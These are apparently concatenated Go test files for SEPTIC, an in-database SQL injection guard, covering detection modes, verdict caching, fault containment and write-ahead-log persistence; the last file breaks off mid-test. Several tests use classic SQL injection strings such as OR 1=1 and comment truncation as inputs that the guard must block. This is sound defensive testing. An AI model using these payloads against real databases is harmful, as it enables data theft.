	// NN configuration: both detections off — attacks pass (that is the
	// baseline overhead configuration, not a protection mode).
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	attacked := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- '"
	if _, err := db.Exec(attacked); err != nil {
		t.Errorf("NN config must not block: %v", err)
	}
	// Turn SQLI detection on (YN): now blocked.
	sep.SetConfig(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	if _, err := db.Exec(attacked); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("YN config must block: %v", err)
	}
}

func TestStorePersistenceAcrossRestart(t *testing.T) {
	// Demo phase C/D: models persist, a restarted server reloads them.
	path := filepath.Join(t.TempDir(), "models.json")

	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	if err := sep.Store().Save(path); err != nil {
		t.Fatalf("Save: %v", err)
	}

	// "Restart": fresh SEPTIC in prevention mode, loading the models.
	store := NewStore()
	if err := store.Load(path); err != nil {
		t.Fatalf("Load: %v", err)
	}
	if store.Len() != sep.Store().Len() {
		t.Fatalf("loaded %d models, want %d", store.Len(), sep.Store().Len())
	}
	sep2 := New(Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false},
		WithStore(store))
	db2 := engine.New(engine.WithQueryHook(nil))
	if _, err := db2.Exec("CREATE TABLE tickets (id INT, reservID TEXT, creditCard INT)"); err != nil {
		t.Fatal(err)
	}
	db2.SetHook(sep2)

	if _, err := db2.Exec(fmt.Sprintf(ticketsLookup, "OK999X", "1111")); err != nil {
		t.Errorf("benign query after restart: %v", err)
	}
	_, err := db2.Exec("SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("attack after restart: err = %v, want blocked", err)
	}
}

func TestStoreLoadRejectsCorruption(t *testing.T) {
	path := filepath.Join(t.TempDir(), "models.json")
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	train(t, db, sep, []string{"SELECT id FROM users WHERE name = 'x'"})
	if err := sep.Store().Save(path); err != nil {
		t.Fatal(err)
	}
	// Corrupt a fingerprint by rewriting the file with a bogus sum.
	data := mustRead(t, path)
	tampered := replaceOnce(data, `"FIELD_ITEM"`, `"FIELD_ITEM"`) // no-op sanity
	_ = tampered
	corrupted := replaceOnce(data, `"data": "name"`, `"data": "evil"`)
	if string(corrupted) == string(data) {
		t.Skip("layout changed; corruption target not found")
	}
	mustWrite(t, path, corrupted)
	if err := NewStore().Load(path); err == nil {
		t.Error("Load must reject fingerprint mismatch")
	}
}

func TestExternalIdentifier(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	// Same shape, different external IDs: two models.
	before := sep.Store().Len()
	if _, err := db.Exec("/* app:page1 */ SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("/* app:page2 */ SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	if got := sep.Store().Len() - before; got != 2 {
		t.Errorf("distinct external IDs produced %d models, want 2", got)
	}
	ids := sep.Store().IDs()
	var withExt int
	for _, id := range ids {
		if len(id) > 4 && (id[:4] == "app:") {
			withExt++
		}
	}
	if withExt != 2 {
		t.Errorf("external identifiers missing from IDs: %v", ids)
	}
}

func TestConcurrentHookUse(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 25; j++ {
				if n%2 == 0 {
					_, _ = db.Exec(fmt.Sprintf(ticketsLookup, "ZZ91AB", "42"))
				} else {
					_, _ = db.Exec("SELECT * FROM tickets WHERE reservID = 'x' OR 1=1-- ' AND creditCard = 0")
				}
			}
		}(i)
	}
	wg.Wait()
	stats := sep.Stats()
	if stats.AttacksBlocked != 100 {
		t.Errorf("blocked = %d, want 100", stats.AttacksBlocked)
	}
	if stats.QueriesSeen < 200 {
		t.Errorf("seen = %d, want >= 200", stats.QueriesSeen)
	}
}

// TestConcurrentModeFlips: sessions keep executing while an operator
// flips modes; the hook must stay consistent (race-detector checked) and
// every prevention-window attack must be blocked.
func TestConcurrentModeFlips(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModePrevention, DetectSQLI: true, IncrementalLearning: false})
	train(t, db, sep, []string{fmt.Sprintf(ticketsLookup, "ID34FG", "1234")})

	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 50; i++ {
			sep.SetMode(ModeDetection)
			sep.SetMode(ModePrevention)
		}
	}()
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				// Benign traffic must never fail regardless of mode.
				if _, err := db.Exec(fmt.Sprintf(ticketsLookup, "ZZ91AB", "7")); err != nil {
					t.Errorf("benign query failed during mode flip: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
	<-done
	// With flipping done and prevention restored, the attack is blocked.
	if _, err := db.Exec("SELECT * FROM tickets WHERE reservID = 'x' OR 1=1-- '"); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Errorf("attack after flips: %v", err)
	}
}

func TestModeString(t *testing.T) {
	for m, want := range map[Mode]string{
		ModeTraining:   "training",
		ModeDetection:  "detection",
		ModePrevention: "prevention",
	} {
		if m.String() != want {
			t.Errorf("%d.String() = %q, want %q", m, m.String(), want)
		}
	}
}
