package core

import (
	"errors"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
)

// panicPlugin blows up in Filter: a broken third-party stored-injection
// plugin, the paper's worst case for an in-DBMS mechanism.
type panicPlugin struct{}

func (*panicPlugin) Name() string       { return "panic-plugin" }
func (*panicPlugin) Filter(string) bool { panic("plugin exploded") }
func (*panicPlugin) Validate(string) (string, bool) {
	return "", false
}

// faultGuard builds a guard (with the panicking plugin chain) installed
// in an engine, trains one INSERT so detection has a model to run
// against, and switches to the requested config.
func faultGuard(t *testing.T, cfg Config) (*Septic, *engine.DB) {
	t.Helper()
	guard := New(Config{Mode: ModeTraining}, WithPlugins([]Plugin{&panicPlugin{}}))
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (id INT, s TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id, s) VALUES (1, 'x')"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(cfg)
	return guard, db
}

func TestGuardPanicFailClosedBlocks(t *testing.T) {
	guard, db := faultGuard(t, Config{Mode: ModePrevention, DetectStored: true})

	_, err := db.Exec("INSERT INTO t (id, s) VALUES (2, 'y')")
	if !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked (fail-closed)", err)
	}
	if got := guard.Stats().GuardFaults; got != 1 {
		t.Errorf("GuardFaults = %d, want 1", got)
	}
	// The fault is logged as an incident with the panic value.
	var found bool
	for _, e := range guard.Logger().Events() {
		if e.Kind == EventGuardFault && strings.Contains(e.Detail, "plugin exploded") {
			found = true
		}
	}
	if !found {
		t.Error("no EventGuardFault logged")
	}
	// The row was never written.
	res, err := db.Exec("SELECT COUNT(*) FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0].I != 1 {
		t.Errorf("count = %v, want 1 (blocked insert must not land)", res.Rows[0][0])
	}
}

func TestGuardPanicFailOpenAdmits(t *testing.T) {
	guard, db := faultGuard(t, Config{Mode: ModePrevention, DetectStored: true, FailOpen: true})

	if _, err := db.Exec("INSERT INTO t (id, s) VALUES (2, 'y')"); err != nil {
		t.Fatalf("fail-open must admit: %v", err)
	}
	if got := guard.Stats().GuardFaults; got != 1 {
		t.Errorf("GuardFaults = %d, want 1", got)
	}
	res, err := db.Exec("SELECT COUNT(*) FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0].I != 2 {
		t.Errorf("count = %v, want 2 (fail-open admits)", res.Rows[0][0])
	}
}

func TestGuardPanicDoesNotPoisonLaterQueries(t *testing.T) {
	guard, db := faultGuard(t, Config{Mode: ModePrevention, DetectStored: true})
	if _, err := db.Exec("INSERT INTO t (id, s) VALUES (2, 'y')"); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v", err)
	}
	// A statement class that never reaches the plugin chain still works:
	// the panic was contained, not cached, and the guard keeps serving.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatalf("guard wedged after contained panic: %v", err)
	}
	if got := guard.Stats().GuardFaults; got != 1 {
		t.Errorf("GuardFaults = %d, want 1", got)
	}
}

func TestGuardPanicViaFaultPointFailClosed(t *testing.T) {
	guard := New(Config{Mode: ModePrevention, DetectSQLI: true})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	guard.SetMode(ModeTraining)
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	guard.SetMode(ModePrevention)

	faultinject.Arm(func(site string) {
		if site == faultinject.SiteCoreDetect {
			panic("injected detector fault")
		}
	})
	defer faultinject.Disarm()
	// With the protection path faulted, fail-closed admits nothing —
	// even a query whose model is known benign.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); !errors.Is(err, engine.ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked while detector is faulted", err)
	}
	faultinject.Disarm()
	// Fault cleared: service resumes.
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatalf("after disarm: %v", err)
	}
	if guard.Stats().GuardFaults == 0 {
		t.Error("GuardFaults not counted")
	}
}
