package core

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/wal"
)

// newPersisted builds a Septic with one registered domain ("shop") and
// durability attached in dir, mirroring the septicd boot order: domains
// first, attach second.
func newPersisted(t *testing.T, dir string, opts PersistenceOptions) (*Septic, *Persistence) {
	t.Helper()
	s := New(DefaultConfig())
	if _, err := s.RegisterDomain("shop", DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	opts.Dir = dir
	p, err := s.AttachPersistence(opts)
	if err != nil {
		t.Fatal(err)
	}
	return s, p
}

func TestPersistenceRoundTrip(t *testing.T) {
	dir := t.TempDir()
	s1, p1 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})

	m1 := modelFor(t, "SELECT a FROM t WHERE b = 1")
	m2 := modelFor(t, "SELECT name FROM users WHERE id = 2")
	if !s1.Store().Put("q1", m1, false) {
		t.Fatal("put q1")
	}
	shop, _ := s1.Domain("shop")
	if !shop.Store().Put("q2", m2, true) {
		t.Fatal("put q2")
	}
	s1.Store().Put("gone", m2, false)
	s1.Store().Delete("gone")
	shop.Store().Approve("q2")
	shop.SetMode(ModeDetection)
	if err := p1.Close(); err != nil {
		t.Fatal(err)
	}

	// Restart: no checkpoint was taken, so everything comes back from
	// the WAL alone.
	s2, p2 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p2.Close()
	if _, ok := s2.Store().Get("q1"); !ok {
		t.Fatal("q1 lost across restart")
	}
	if _, ok := s2.Store().Get("gone"); ok {
		t.Fatal("deleted identifier resurrected")
	}
	shop2, _ := s2.Domain("shop")
	if _, ok := shop2.Store().Get("q2"); !ok {
		t.Fatal("q2 lost across restart")
	}
	if pending := shop2.Store().PendingReview(); len(pending) != 0 {
		t.Fatalf("approval lost: pending = %v", pending)
	}
	if shop2.Mode() != ModeDetection {
		t.Fatalf("mode = %s, want detection", shop2.Mode())
	}
	// Default-domain state never leaks into the registered domain and
	// vice versa.
	if _, ok := s2.Store().Get("q2"); ok {
		t.Fatal("q2 leaked into the default domain")
	}
	if st := p2.Stats(); st.RecoveredRecords == 0 || st.RecoveredSkipped != 0 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestPersistenceCheckpointTrimsAndRecovers(t *testing.T) {
	dir := t.TempDir()
	// A tiny segment size forces rotations so the checkpoint has sealed
	// segments to trim.
	s1, p1 := newPersisted(t, dir, PersistenceOptions{
		Fsync: wal.FsyncAlways, SegmentSize: 256,
	})
	queries := []string{
		"SELECT a FROM t1 WHERE x = 1",
		"SELECT b FROM t2 WHERE y = 2",
		"SELECT c FROM t3 WHERE z = 3",
		"SELECT d FROM t4 WHERE w = 4",
	}
	for i, q := range queries {
		if !s1.Store().Put(q, modelFor(t, q), false) {
			t.Fatalf("put %d", i)
		}
	}
	if err := p1.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	st := p1.Stats()
	if st.Checkpoints != 1 || st.LastCheckpointSeq == 0 {
		t.Fatalf("checkpoint stats = %+v", st)
	}
	if st.WAL.Trimmed == 0 {
		t.Fatal("checkpoint trimmed no sealed segments")
	}
	// One more mutation after the checkpoint: recovery must stitch
	// checkpoint + WAL tail together.
	post := "SELECT e FROM t5 WHERE v = 5"
	if !s1.Store().Put(post, modelFor(t, post), false) {
		t.Fatal("post-checkpoint put")
	}
	if err := p1.Close(); err != nil {
		t.Fatal(err)
	}

	s2, p2 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p2.Close()
	for _, q := range append(queries, post) {
		if _, ok := s2.Store().Get(q); !ok {
			t.Fatalf("%q lost across checkpointed restart", q)
		}
	}
	if n := s2.Store().Len(); n != len(queries)+1 {
		t.Fatalf("store has %d identifiers, want %d", n, len(queries)+1)
	}
}

func TestPersistenceReplayIsIdempotentOverCheckpoint(t *testing.T) {
	// Records the checkpoint already covers may also sit in the WAL tail
	// (the barrier is read before the snapshot, so later records can be
	// included in both). Replay over the snapshot must not duplicate
	// models.
	dir := t.TempDir()
	s1, p1 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	q := "SELECT a FROM t WHERE b = 1"
	s1.Store().Put(q, modelFor(t, q), false)
	if err := p1.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if err := p1.Close(); err != nil {
		t.Fatal(err)
	}
	s2, p2 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p2.Close()
	if n := s2.Store().ModelCount(); n != 1 {
		t.Fatalf("model count = %d, want 1 (replay not idempotent)", n)
	}
}

func TestPersistenceSkipsUnknownDomain(t *testing.T) {
	dir := t.TempDir()
	s1, p1 := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	shop, _ := s1.Domain("shop")
	shop.Store().Put("orphan", modelFor(t, "SELECT 1"), false)
	if err := p1.Close(); err != nil {
		t.Fatal(err)
	}

	// Restart WITHOUT registering "shop": its records must be skipped
	// and counted, never applied to the default domain or fatal.
	s2 := New(DefaultConfig())
	p2, err := s2.AttachPersistence(PersistenceOptions{Dir: dir, Fsync: wal.FsyncAlways})
	if err != nil {
		t.Fatal(err)
	}
	defer p2.Close()
	if _, ok := s2.Store().Get("orphan"); ok {
		t.Fatal("unknown-domain record applied to the default domain")
	}
	if st := p2.Stats(); st.RecoveredSkipped == 0 {
		t.Fatalf("skipped records not counted: %+v", st)
	}
}

func TestPersistencePutRefusedWhenAppendFails(t *testing.T) {
	dir := t.TempDir()
	s, p := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p.Close()
	faultinject.ArmErr(faultinject.FailPoint(faultinject.SiteWALAppend, 1))
	defer faultinject.DisarmErr()
	if s.Store().Put("q", modelFor(t, "SELECT 1"), false) {
		t.Fatal("Put acknowledged a model whose WAL append failed")
	}
	if _, ok := s.Store().Get("q"); ok {
		t.Fatal("refused Put still published the model in memory")
	}
	if st := p.Stats(); st.AppendErrors != 1 {
		t.Fatalf("append errors = %d, want 1", st.AppendErrors)
	}
	// The failure fired before any byte was written, so the log is NOT
	// poisoned: the next Put simply succeeds. The retry being free is
	// the point of refusing the first one.
	if !s.Store().Put("q2", modelFor(t, "SELECT 2"), false) {
		t.Fatal("Put refused after a clean pre-write failure")
	}
	if p.Err() != nil {
		t.Fatalf("log poisoned by a pre-write refusal: %v", p.Err())
	}
}

func TestPersistenceTornAppendPoisonsAndRefuses(t *testing.T) {
	dir := t.TempDir()
	s, p := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p.Close()
	// A failure mid-frame leaves torn bytes on disk: the log poisons
	// itself and every later mutation is refused (for puts) or proceeds
	// memory-only (deletes/approvals), so no acknowledged record can sit
	// beyond a tear where recovery would silently drop it.
	faultinject.ArmErr(faultinject.FailPoint(faultinject.SiteWALShortWrite, 1))
	if s.Store().Put("torn", modelFor(t, "SELECT 1"), false) {
		t.Fatal("Put acknowledged through a torn append")
	}
	faultinject.DisarmErr()
	if s.Store().Put("next", modelFor(t, "SELECT 2"), false) {
		t.Fatal("Put acknowledged on a poisoned log")
	}
	if !errors.Is(p.Err(), wal.ErrLogFailed) {
		t.Fatalf("log not poisoned: %v", p.Err())
	}
	if st := p.Stats(); st.AppendErrors != 2 {
		t.Fatalf("append errors = %d, want 2", st.AppendErrors)
	}
}

func TestPersistenceCheckpointFaultIsContainedAndCounted(t *testing.T) {
	dir := t.TempDir()
	s, p := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncAlways})
	defer p.Close()
	q := "SELECT a FROM t WHERE b = 1"
	s.Store().Put(q, modelFor(t, q), false)
	if err := p.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	good, err := os.ReadFile(filepath.Join(dir, checkpointFileName))
	if err != nil {
		t.Fatal(err)
	}

	// A checkpoint that dies before the rename must leave the previous
	// snapshot byte-identical.
	faultinject.ArmErr(faultinject.FailPoint(faultinject.SiteAtomicRename, 1))
	if err := p.Checkpoint(); err == nil {
		t.Fatal("checkpoint succeeded through an injected rename failure")
	}
	faultinject.DisarmErr()
	after, err := os.ReadFile(filepath.Join(dir, checkpointFileName))
	if err != nil {
		t.Fatal(err)
	}
	if string(after) != string(good) {
		t.Fatal("failed checkpoint corrupted the previous snapshot")
	}
	if st := p.Stats(); st.CheckpointFaults != 1 {
		t.Fatalf("checkpoint faults = %d, want 1", st.CheckpointFaults)
	}
	// The next attempt succeeds.
	if err := p.Checkpoint(); err != nil {
		t.Fatalf("checkpoint after contained fault: %v", err)
	}
}

func TestPersistenceBackgroundCheckpointer(t *testing.T) {
	dir := t.TempDir()
	s, p := newPersisted(t, dir, PersistenceOptions{
		Fsync: wal.FsyncAlways, CheckpointInterval: 5 * time.Millisecond,
	})
	q := "SELECT a FROM t WHERE b = 1"
	s.Store().Put(q, modelFor(t, q), false)
	deadline := time.Now().Add(5 * time.Second)
	for p.Stats().Checkpoints == 0 {
		if time.Now().After(deadline) {
			t.Fatal("background checkpointer never ran")
		}
		time.Sleep(time.Millisecond)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, checkpointFileName)); err != nil {
		t.Fatalf("no checkpoint file: %v", err)
	}
}

func TestPersistenceLateRegisteredDomainIsBound(t *testing.T) {
	dir := t.TempDir()
	s := New(DefaultConfig())
	p, err := s.AttachPersistence(PersistenceOptions{Dir: dir, Fsync: wal.FsyncAlways})
	if err != nil {
		t.Fatal(err)
	}
	// Registered AFTER attach: the domain must still be durable.
	late, err := s.RegisterDomain("late", DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	late.Store().Put("lq", modelFor(t, "SELECT 9"), false)
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}

	s2 := New(DefaultConfig())
	if _, err := s2.RegisterDomain("late", DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	p2, err := s2.AttachPersistence(PersistenceOptions{Dir: dir, Fsync: wal.FsyncAlways})
	if err != nil {
		t.Fatal(err)
	}
	defer p2.Close()
	d2, _ := s2.Domain("late")
	if _, ok := d2.Store().Get("lq"); !ok {
		t.Fatal("late-registered domain's model lost")
	}
}

func TestPersistenceDoubleAttachRejected(t *testing.T) {
	s := New(DefaultConfig())
	p, err := s.AttachPersistence(PersistenceOptions{Dir: t.TempDir(), Fsync: wal.FsyncNever})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if _, err := s.AttachPersistence(PersistenceOptions{Dir: t.TempDir()}); err == nil {
		t.Fatal("second attach must be rejected")
	}
	if s.Persistence() != p {
		t.Fatal("Persistence() accessor broken")
	}
}

func TestPersistenceRejectsCorruptCheckpoint(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, checkpointFileName), []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := New(DefaultConfig())
	if _, err := s.AttachPersistence(PersistenceOptions{Dir: dir, Fsync: wal.FsyncNever}); err == nil {
		t.Fatal("corrupt checkpoint must fail attach loudly, not boot empty")
	}
}

// TestPersistenceGauges checks the wal.* metrics surface: every gauge is
// registered on the observer hub, the attach event is published, and the
// counters move with real traffic.
func TestPersistenceGauges(t *testing.T) {
	dir := t.TempDir()
	hub := obs.NewHub(16)
	s := New(DefaultConfig(), WithObserver(hub))
	p, err := s.AttachPersistence(PersistenceOptions{Dir: dir, Fsync: wal.FsyncAlways})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if !s.Store().Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false) {
		t.Fatal("put")
	}
	if err := p.Checkpoint(); err != nil {
		t.Fatal(err)
	}

	snap := hub.Metrics.Snapshot()
	for _, name := range []string{
		"wal.appends", "wal.append_errors", "wal.fsyncs", "wal.rotations",
		"wal.trimmed_segments", "wal.last_seq", "wal.recovered",
		"wal.recovered_skipped", "wal.torn_segments", "wal.torn_dropped",
		"wal.checkpoints", "wal.checkpoint_faults", "wal.last_checkpoint_seq",
		"wal.recovery_ms",
	} {
		if _, ok := snap.Gauges[name]; !ok {
			t.Fatalf("gauge %s not registered", name)
		}
	}
	if snap.Gauges["wal.appends"] != 1 || snap.Gauges["wal.fsyncs"] != 1 {
		t.Fatalf("appends/fsyncs gauges: %d/%d, want 1/1",
			snap.Gauges["wal.appends"], snap.Gauges["wal.fsyncs"])
	}
	if snap.Gauges["wal.checkpoints"] != 1 || snap.Gauges["wal.last_checkpoint_seq"] != 1 {
		t.Fatalf("checkpoint gauges: %+v", snap.Gauges)
	}
	if evs := hub.Events.Recent(obs.KindWAL, 0); len(evs) == 0 {
		t.Fatal("no wal attach event published")
	}
}

// TestPersistenceSkipsCorruptRecords feeds the recovery path records the
// current code would never write — broken JSON, an unknown op, a model
// whose stored fingerprint does not match its content, a config with an
// invalid mode — and requires each to be skipped (counted, never fatal)
// while a good record in the same log still lands.
func TestPersistenceSkipsCorruptRecords(t *testing.T) {
	dir := t.TempDir()

	// Forge the log directly, bypassing the Persistence layer.
	log, _, err := wal.Open(wal.Options{Dir: dir, Policy: wal.FsyncNever}, nil)
	if err != nil {
		t.Fatal(err)
	}
	m := modelFor(t, "SELECT a FROM t WHERE b = 1")
	appendRec := func(rec walRecord) {
		t.Helper()
		data, err := json.Marshal(rec)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := log.Append(data); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := log.Append([]byte("{not json")); err != nil {
		t.Fatal(err)
	}
	appendRec(walRecord{Op: "compact", Dom: DefaultDomain})                           // unknown op
	appendRec(walRecord{Op: opPut, Dom: DefaultDomain, ID: "bad", Model: &m, Sum: 1}) // fingerprint lie
	appendRec(walRecord{Op: opPut, Dom: DefaultDomain, ID: "nil"})                    // put without model
	badMode := persistedConfig{Mode: 99}
	appendRec(walRecord{Op: opConfig, Dom: DefaultDomain, Cfg: &badMode}) // invalid mode
	appendRec(walRecord{Op: opPut, Dom: DefaultDomain, ID: "good", Model: &m, Sum: m.Fingerprint()})
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}

	s, p := newPersisted(t, dir, PersistenceOptions{Fsync: wal.FsyncNever})
	defer p.Close()
	st := p.Stats()
	if st.RecoveredSkipped != 5 {
		t.Fatalf("RecoveredSkipped = %d, want 5", st.RecoveredSkipped)
	}
	if st.RecoveredRecords != 1 {
		t.Fatalf("RecoveredRecords = %d, want 1", st.RecoveredRecords)
	}
	if _, ok := s.Store().Get("good"); !ok {
		t.Fatal("good record did not survive its corrupt neighbours")
	}
	for _, id := range []string{"bad", "nil"} {
		if _, ok := s.Store().Get(id); ok {
			t.Fatalf("corrupt record %q was applied", id)
		}
	}
	if mode := s.Config().Mode; mode != DefaultConfig().Mode {
		t.Fatalf("invalid persisted mode installed: %v", mode)
	}
}

// TestPersistenceAttachRejectsUnusableDir: the WAL directory colliding
// with an existing file is a boot error, not a silent no-durability run.
func TestPersistenceAttachRejectsUnusableDir(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "occupied")
	if err := os.WriteFile(path, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := New(DefaultConfig())
	if _, err := s.AttachPersistence(PersistenceOptions{Dir: path}); err == nil {
		t.Fatal("attach over a regular file succeeded")
	}
}

func TestPersistenceDoubleCloseRejected(t *testing.T) {
	_, p := newPersisted(t, t.TempDir(), PersistenceOptions{Fsync: wal.FsyncNever})
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err == nil {
		t.Fatal("second close succeeded")
	}
}

// TestPersistenceSafeCheckpointContainsPanicAndError drives the
// background checkpointer's containment wrapper directly: an injected
// panic at the checkpoint site is swallowed and counted, an injected
// error is logged, and a clean run afterwards still checkpoints.
func TestPersistenceSafeCheckpointContainsPanicAndError(t *testing.T) {
	_, p := newPersisted(t, t.TempDir(), PersistenceOptions{Fsync: wal.FsyncNever})
	defer p.Close()

	faultinject.Arm(faultinject.KillPoint(faultinject.SiteCheckpoint, 1))
	p.safeCheckpoint() // must not panic out
	faultinject.Disarm()
	if got := p.Stats().CheckpointFaults; got != 1 {
		t.Fatalf("CheckpointFaults = %d after contained panic, want 1", got)
	}

	faultinject.ArmErr(faultinject.FailPoint(faultinject.SiteCheckpoint, 1))
	p.safeCheckpoint()
	faultinject.DisarmErr()
	if got := p.Stats().Checkpoints; got != 0 {
		t.Fatalf("failed checkpoint was counted: %d", got)
	}

	p.safeCheckpoint()
	if got := p.Stats().Checkpoints; got != 1 {
		t.Fatalf("clean checkpoint after faults: Checkpoints = %d, want 1", got)
	}
}
