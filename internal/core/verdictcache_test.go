package core

import (
	"errors"
	"fmt"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/engine"
)

// TestVerdictCacheServesRepeats: a byte-identical repeat of a checked
// benign query is served from the cache, with counters staying exact.
func TestVerdictCacheServesRepeats(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})
	sep.SetConfig(DefaultConfig())

	const repeats = 10
	for i := 0; i < repeats; i++ {
		if _, err := db.Exec(benign); err != nil {
			t.Fatalf("repeat %d: %v", i, err)
		}
	}
	cs := sep.CacheStats()
	if cs.Hits != repeats-1 {
		t.Errorf("cache hits = %d, want %d", cs.Hits, repeats-1)
	}
	// The cached path must keep the per-query audit trail: every passed
	// check is counted (and, at default sampling, logged).
	if got := sep.Logger().Counters().QueriesChecked; got != repeats {
		t.Errorf("QueriesChecked = %d, want %d", got, repeats)
	}
	// And the admin usage report stays exact: one store hit per execution.
	for _, u := range sep.Store().UsageReport() {
		if u.ID != "" && u.Hits >= repeats {
			return
		}
	}
	t.Errorf("no identifier recorded %d hits in the usage report", repeats)
}

// TestVerdictCacheNeverCachesAttacks: an injected variant of a cached
// benign query is a different byte string, so it never matches the memo;
// and the attack itself is re-detected (and re-logged) on every attempt,
// never served from cache.
func TestVerdictCacheNeverCachesAttacks(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})
	sep.SetConfig(DefaultConfig())

	// Warm the cache with the benign lookalike.
	for i := 0; i < 3; i++ {
		if _, err := db.Exec(benign); err != nil {
			t.Fatalf("benign exec: %v", err)
		}
	}
	attacked := fmt.Sprintf(ticketsLookup, "ID34FG' AND 1=1-- ", "0")
	for i := 0; i < 3; i++ {
		if _, err := db.Exec(attacked); !errors.Is(err, engine.ErrQueryBlocked) {
			t.Fatalf("attack attempt %d: err = %v, want ErrQueryBlocked", i, err)
		}
	}
	if got := len(sep.Logger().Attacks()); got != 3 {
		t.Errorf("attack events = %d, want 3 (one per attempt, never cached)", got)
	}
	// The benign text still serves from cache afterwards.
	if _, err := db.Exec(benign); err != nil {
		t.Fatalf("benign after attacks: %v", err)
	}
}

// TestSetConfigInvalidatesVerdicts is the acceptance property: no
// verdict may be served across a configuration change. A known attack
// text executes freely (and is cached as benign) under NN, then must be
// blocked immediately after SetConfig switches detection on.
func TestSetConfigInvalidatesVerdicts(t *testing.T) {
	db, sep := newProtectedDB(t, Config{Mode: ModeTraining})
	benign := fmt.Sprintf(ticketsLookup, "ID34FG", "1234")
	train(t, db, sep, []string{benign})

	// NN: detections off — the attack executes and its verdict is cached.
	sep.SetConfig(Config{Mode: ModePrevention, IncrementalLearning: false})
